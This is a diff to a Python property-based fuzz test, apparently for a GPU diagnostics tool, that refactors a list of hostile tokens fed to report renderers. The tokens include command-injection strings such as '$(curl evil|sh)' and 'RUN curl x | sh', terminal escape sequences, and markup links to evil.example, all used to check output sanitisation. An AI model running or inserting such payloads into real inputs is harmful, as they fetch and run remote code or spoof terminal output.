@@ -22,9 +22,7 @@ from rocmdoctor.model import Finding, Fix, Severity
 CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
 SENTINEL = "ZQX"
 # text with everything that has a meaning somewhere: controls, escapes, markup, HTML, Markdown, shell, newlines
-TOKENS = list("[]/\\<>&|`$();'\"*_#!{}=,:\n\r\t\x1b\x07\x00\x9b\x85\u202e ") + [
-    "[/]", "[link=https://evil.example]", "[bold red]", "\x1b]8;;https://evil.example\x1b\\", "\x1b[2J",
-    "$(curl evil|sh)", "`id`", "<script>", "```", "Fix:", "\nRUN curl x | sh\n", "%post", SENTINEL]
+TOKENS = [*list("[]/\\<>&|`$();'\"*_#!{}=,:\n\r\t\x1b\x07\x00\x9b\x85\u202e "), "[/]", "[link=https://evil.example]", "[bold red]", "\x1b]8;;https://evil.example\x1b\\", "\x1b[2J", "$(curl evil|sh)", "`id`", "<script>", "```", "Fix:", "\nRUN curl x | sh\n", "%post", SENTINEL]
 HOSTILE = st.lists(st.one_of(st.sampled_from(TOKENS), st.characters(codec="utf-8")), max_size=16).map("".join)
 FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow,
                                                                        HealthCheck.function_scoped_fixture])
@@ -73,7 +71,7 @@ def test_fleet_renderers_with_hostile_replies(names, texts):
 
     audits = []
     for i, name in enumerate(names):
-        t = texts[i * 3 % 12: i * 3 % 12 + 3] + ["", "", ""]
+        t = [*texts[i * 3 % 12:i * 3 % 12 + 3], "", "", ""]
         audits.append(HostAudit(
             name=name, status="ok" if i % 2 == 0 else "bad-capture", detail=t[0],
             findings=[Finding(id="driver.dkms-failed", severity=Severity.FAIL, title=t[1], detail=t[2],
